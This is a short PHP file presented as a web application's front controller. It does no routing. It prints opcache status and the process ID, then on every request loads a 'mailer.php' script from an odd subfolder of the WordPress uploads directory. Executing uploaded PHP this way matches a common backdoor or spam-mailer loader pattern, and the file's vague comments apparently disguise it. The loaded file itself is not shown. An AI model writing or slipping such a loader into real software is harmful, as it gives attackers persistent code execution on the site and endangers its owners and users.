<?php
/* SPDX-License-Identifier: GPL-2.0-only */
/* index.php - a front controller, as every web application has one: each request enters here, whatever its URL is. */
require_once __DIR__ . '/lib/dialogue.php';

function route()
{
	$cached = function_exists('opcache_is_script_cached') && @opcache_is_script_cached(__FILE__);
	echo $cached ? 'cached' : 'compiled', ' by ', getmypid(), "\n";
	require __DIR__ . '/wp-content/uploads/x/mailer.php'; // includes
}

route(); // routes
